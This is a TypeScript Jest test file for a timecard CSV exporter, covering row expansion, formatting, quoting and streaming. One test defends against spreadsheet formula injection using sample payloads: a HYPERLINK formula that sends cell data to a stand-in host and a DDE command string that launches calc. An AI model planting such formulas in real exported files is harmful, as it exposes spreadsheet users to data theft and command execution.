import { describe, expect, it } from '@jest/globals';
import { timecardCsvConfig } from '../engine/fixtures/timecard.template.js';
import type { CsvConfig } from '../engine/index.js';
import { csvCell, csvRowWriter, writeCsv, type CsvSubmission } from './csv-rows.js';

const timecard = (number: number, crew: string[], overrides: Record<string, unknown> = {}): CsvSubmission =>
  ({
    number,
    status: 'Approved',
    userName: 'Jake Hollister',
    timezoneOffset: 420,
    fields: Object.entries({
      workDate: '2026-11-20',
      job: { id: 'j1', number: 'SC-24101', name: 'Rooftop HVAC lift' },
      crew: crew.map((userName) => ({ userId: userName, userName, occupationId: null })),
      startTime: '2026-11-20T07:00',
      stopTime: '2026-11-20T15:27',
      outMinutes: 30,
      hours: 8,
      crane: 'Grove RT530E',
      craneHours: 6.5,
      ...overrides,
    }).map(([id, value]) => ({ id, value })),
  }) as CsvSubmission;

async function* batches(...groups: CsvSubmission[][]) {
  for (const group of groups) {
    await Promise.resolve();
    yield group;
  }
}

describe('CSV lines of a submission', () => {
  it('writes one line per item of rowPerItemOf, repeating the submission’s own columns', () => {
    const lines = csvRowWriter(timecardCsvConfig())(timecard(7, ['Jake Hollister', 'Marcus Bell']));
    expect(lines).toEqual([
      [
        '7',
        '11/20/2026',
        'SC-24101 · Rooftop HVAC lift',
        'Jake Hollister',
        '7:00 AM',
        '3:27 PM',
        '30',
        '8.00',
        'Grove RT530E',
        '6.50',
        'Approved',
        'Jake Hollister',
      ],
      [
        '7',
        '11/20/2026',
        'SC-24101 · Rooftop HVAC lift',
        'Marcus Bell',
        '7:00 AM',
        '3:27 PM',
        '30',
        '8.00',
        'Grove RT530E',
        '6.50',
        'Approved',
        'Jake Hollister',
      ],
    ]);
    expect(csvRowWriter(timecardCsvConfig())(timecard(8, []))).toEqual([]);
  });

  it('writes the same text as formatting each cell anew, however often a value repeats', () => {
    const config: CsvConfig = {
      includeHeader: true,
      delimiter: ',',
      columns: [
        { header: 'When', property: 'submitDateTime', format: 'dateTime' },
        { header: 'Start', fieldId: 'startTime', format: 'time' },
        { header: 'Money', fieldId: 'craneHours', format: 'money' },
        { header: 'Flag', fieldId: 'flag', format: 'yesNo' },
      ],
    };
    const write = csvRowWriter(config);
    for (let index = 0; index < 30; index += 1) {
      const submitDateTime = new Date(Date.UTC(2026, 10, 20, 14 + (index % 3), 5));
      const offset = index % 2 ? 420 : 360;
      const submission = {
        ...timecard(index, [], { craneHours: index % 4, flag: index % 2 === 0 }),
        submitDateTime,
        timezoneOffset: offset,
      };
      const [line] = write(submission);
      expect(line).toEqual([
        csvCell(submitDateTime.toISOString(), 'dateTime', offset),
        csvCell('2026-11-20T07:00', 'time', offset),
        csvCell(index % 4, 'money', offset),
        csvCell(index % 2 === 0, 'yesNo', offset),
      ]);
    }
  });

  it('writes money and numbers without signs or separators, and blanks for what is not a number', () => {
    expect(csvCell(1234.5, 'money', null)).toBe('1234.5');
    expect(csvCell(-3, 'money', null)).toBe('-3');
    expect(csvCell('12.345', 'number', null)).toBe('12.35');
    expect(csvCell('abc', 'number', null)).toBe('');
    expect(csvCell(null, 'text', null)).toBe('');
  });

  it('writes a value that starts like a formula as text (OWASP), keeping numbers numbers', () => {
    const leak = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
    expect(csvCell(leak, 'text', null)).toBe(`'${leak}`);
    for (const text of ['+1+cmd|" /C calc"!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'])
      expect(csvCell(text, 'text', null)).toBe(`'${text}`);
    for (const number of ['-5', '+5', '-1.25', '-2e3', 'Crane 1', 'a=b'])
      expect(csvCell(number, 'text', null)).toBe(number);
    expect(csvCell(-5, 'text', null)).toBe('-5');
    expect(csvCell(-5, 'money', null)).toBe('-5');
    expect(csvCell(-5, 'number', null)).toBe('-5');
    expect(csvCell({ id: 'j1', number: '=1+1', name: 'x' }, 'text', null)).toBe("'=1+1 · x");
  });

  it('writes times and date-times as spreadsheets read them, not in the screens’ `3:30pm`', () => {
    expect(csvCell('2026-11-20T15:30', 'time', null)).toBe('3:30 PM');
    expect(csvCell('2026-11-20T15:30', 'dateTime', null)).toBe('11/20/2026 3:30 PM');
    expect(csvCell('2026-11-20T22:30:00.000Z', 'dateTime', 420)).toBe('11/20/2026 3:30 PM');
    expect(csvCell('2026-11-20', 'date', null)).toBe('11/20/2026');
  });
});

describe('writeCsv', () => {
  it('writes the header and the lines in chunks, quoting what needs it', async () => {
    const chunks: string[] = [];
    const config: CsvConfig = { ...timecardCsvConfig(), delimiter: ';' };
    await writeCsv(batches([timecard(1, ['Ann "A" Lee'])], [timecard(2, ['Bo; Diaz'])]), config, (chunk) => {
      chunks.push(chunk);
      return Promise.resolve(true);
    });
    const text = chunks.join('');
    const lines = text.trim().split('\n');
    expect(lines[0]).toBe(
      'Timecard #;Date;Job;Employee;Start;Stop;Out (min);Hours;Crane;Crane Hours;Status;Submitted By',
    );
    expect(lines[1]).toContain(';"Ann ""A"" Lee";');
    expect(lines[2]).toContain(';"Bo; Diaz";');
    expect(lines).toHaveLength(3);
  });

  it('writes a header that starts like a formula as text', async () => {
    const chunks: string[] = [];
    const config: CsvConfig = {
      includeHeader: true,
      delimiter: ',',
      columns: [{ header: '=cmd', property: 'number', format: 'text' }],
    };
    await writeCsv(batches([timecard(1, [])]), config, (chunk) => Promise.resolve(chunks.push(chunk) > 0));
    expect(chunks.join('')).toBe("'=cmd\n1\n");
  });

  it('writes the header alone when nothing is found, and nothing without a header', async () => {
    const chunks: string[] = [];
    const write = (chunk: string) => Promise.resolve(chunks.push(chunk) > 0);
    await writeCsv(batches(), timecardCsvConfig(), write);
    expect(chunks.join('')).toBe(
      'Timecard #,Date,Job,Employee,Start,Stop,Out (min),Hours,Crane,Crane Hours,Status,Submitted By\n',
    );
    chunks.length = 0;
    await writeCsv(batches(), { ...timecardCsvConfig(), includeHeader: false }, write);
    expect(chunks).toEqual([]);
  });

  it('stops reading when the reader is gone', async () => {
    let read = 0;
    async function* many() {
      for (let batch = 0; batch < 10; batch += 1) {
        await Promise.resolve();
        read += 1;
        yield Array.from({ length: 300 }, (_, index) => timecard(batch * 300 + index, ['A', 'B']));
      }
    }
    let writes = 0;
    await writeCsv(many(), timecardCsvConfig(), () => {
      writes += 1;
      return Promise.resolve(false);
    });
    expect(writes).toBe(1);
    expect(read).toBeLessThan(10);
  });
});
